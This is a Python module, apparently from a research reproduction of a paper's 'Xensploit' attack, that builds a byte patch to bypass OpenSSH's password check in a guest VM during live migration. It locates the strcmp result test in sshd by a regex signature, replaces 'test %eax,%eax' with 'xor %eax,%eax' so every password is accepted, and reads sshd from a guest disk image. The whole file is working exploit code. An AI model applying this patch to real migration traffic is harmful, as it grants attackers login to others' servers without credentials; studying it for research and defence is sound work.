"""Where a man in the middle patches sshd's password check (the paper's Xensploit, §6.3).

OpenSSH's ``sys_auth_passwd`` ends with ``return encrypted != NULL && strcmp(encrypted,
pw_password) == 0``; compiled for x86-64 that is ``mov %rax,%rdi; test %rax,%rax; je ..;
mov %rbx,%rsi; call strcmp; test %eax,%eax; sete %al``. Turning ``test %eax,%eax`` into
``xor %eax,%eax`` (same two bytes' length) sets the zero flag whatever strcmp said: every
password is accepted. The attacker knows the guest's distribution, so it reads the same sshd
binary and takes the bytes around that instruction as the signature of the code page it looks
for in the migration stream (file-backed code pages travel verbatim).
"""

from __future__ import annotations

import re
import subprocess
from dataclasses import dataclass
from pathlib import Path

#: mov %rax,%rdi; test %rax,%rax; je (rel8 or rel32); mov %rbx,%rsi; call rel32;
#: test %eax,%eax; sete %al
_CHECK = re.compile(
    rb"\x48\x89\xc7\x48\x85\xc0(?:\x74.|\x0f\x84....)\x48\x89\xde\xe8....\x85\xc0\x0f\x94\xc0",
    re.S,
)
_TEST_EAX = b"\x85\xc0"
_XOR_EAX = b"\x31\xc0"
_PAGE = 4096
_WINDOW = 64


class PatchNotFound(Exception):
    """The sshd binary does not contain the expected password check exactly once."""


@dataclass(frozen=True)
class SshdPatch:
    """The original bytes around the check and the same bytes patched (same length)."""

    original: bytes
    patched: bytes
    file_offset: int


def find_password_check(sshd: bytes) -> SshdPatch:
    """The patch for this sshd; raises PatchNotFound unless the check occurs exactly once."""
    hits = list(_CHECK.finditer(sshd))
    if len(hits) != 1:
        raise PatchNotFound(f"expected one password check in sshd, found {len(hits)}")
    at = hits[0].end() - len(_TEST_EAX) - 3  # the test %eax,%eax before sete %al
    assert sshd[at : at + 2] == _TEST_EAX
    # a window of code around it that stays within one 4 KiB page (pages travel whole)
    page = at - at % _PAGE
    start = max(page, min(at - _WINDOW // 2, page + _PAGE - _WINDOW))
    original = sshd[start : start + _WINDOW]
    rel = at - start
    patched = original[:rel] + _XOR_EAX + original[rel + 2 :]
    return SshdPatch(original=original, patched=patched, file_offset=at)


def sshd_from_image(root_image: Path) -> bytes:
    """The guest's /usr/sbin/sshd, read from its ext4 image with debugfs (no mount)."""
    out = subprocess.run(
        ["debugfs", "-R", "cat /usr/sbin/sshd", str(root_image)],
        capture_output=True, timeout=60, check=False,
    )  # fmt: skip
    if out.returncode != 0 or len(out.stdout) < 100_000:
        raise PatchNotFound(f"cannot read sshd from {root_image} with debugfs")
    return out.stdout
